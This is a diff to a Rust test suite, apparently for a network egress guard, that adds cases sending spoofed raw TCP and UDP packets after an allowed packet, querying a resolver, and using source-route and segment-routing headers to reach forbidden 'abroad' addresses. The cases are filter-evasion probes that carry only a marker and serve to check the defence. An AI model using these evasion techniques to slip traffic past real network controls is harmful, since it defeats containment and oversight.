@@ -119,6 +119,28 @@ attacks! {
         let packet = tcp_v4(HERE, ABROAD, s.port(), 443, 1, 1, ACK, &s.marker);
         send_to(&raw(at("192.0.2.2", 0), libc::IPPROTO_RAW)?, &packet, at("192.0.2.2", 0))
     });
+    out_raw_tcp_after_an_allowed_packet: |s| s.inside(|| {
+        // What a socket may send to one place says nothing about the next.
+        let fd = raw(at("192.0.2.2", 0), libc::IPPROTO_RAW)?;
+        let allowed = tcp_v4([198, 51, 100, 1], FRIEND, 4000, 443, 1, 1, ACK, b"greetings");
+        send_to(&fd, &allowed, at("198.51.100.2", 0))?;
+        let packet = tcp_v4(HERE, ABROAD, 4000, 443, 1, 1, ACK, &s.marker);
+        send_to(&fd, &packet, at("192.0.2.2", 0))
+    });
+    out_raw_udp_after_an_allowed_packet: |s| s.inside(|| {
+        let fd = raw(at("192.0.2.2", 0), libc::IPPROTO_RAW)?;
+        let allowed = udp_v4([198, 51, 100, 1], FRIEND, 4000, 443, b"greetings");
+        send_to(&fd, &allowed, at("198.51.100.2", 0))?;
+        let packet = udp_v4(HERE, ABROAD, 4000, 53, &s.marker);
+        send_to(&fd, &packet, at("192.0.2.2", 0))
+    });
+    out_raw_question_to_a_resolver_of_an_allowed_region: |s| s.inside(|| {
+        let (from, to) = if s.guarded { ([198, 51, 100, 1], FRIEND) } else { (HERE, ABROAD) };
+        let packet = udp_v4(from, to, 4000, 53, &s.marker);
+        let to = std::net::Ipv4Addr::from(to).to_string();
+        let sent = send_to(&raw(at(&to, 0), libc::IPPROTO_RAW)?, &packet, at(&to, 0));
+        if s.guarded { sent.map(|_| Gain::Through) } else { sent }
+    });
     out_raw_fragment: |s| s.inside(|| {
         let mut packet = udp_v4(HERE, ABROAD, 4000, 53, &s.marker);
         packet[6] = 0x20; // more fragments
@@ -136,7 +158,7 @@ attacks! {
     });
     out_source_route: |s| s.inside(|| {
         // Loose source route: by way of a host abroad to a friend. What leaves is addressed to the host abroad.
-        let to = at("198.51.100.2", 53);
+        let to = at("198.51.100.2", 443);
         let fd = udp(to)?;
         set_bytes(&fd, libc::IPPROTO_IP, libc::IP_OPTIONS, &[131, 7, 4, 192, 0, 2, 2, 0])?;
         send_to(&fd, &s.marker, to)
@@ -156,7 +178,7 @@ attacks! {
         // Segment routing (type 4, RFC 8754): the call names a friend, the first segment is abroad.
         let abroad = "2001:db8:f::2".parse::<Ipv6Addr>().expect("an address").octets();
         let header = [&[0, 4, 4, 1, 1, 0, 0, 0][..], &[0; 16], &abroad].concat();
-        extended(at("2001:db8:a::2", 53), libc::IPV6_RTHDR, &header, &s.marker)
+        extended(at("2001:db8:a::2", 443), libc::IPV6_RTHDR, &header, &s.marker)
     });
     out_ip_over_udp: |s| s.inside(|| {
         // Any tunnel is a datagram to its far end.
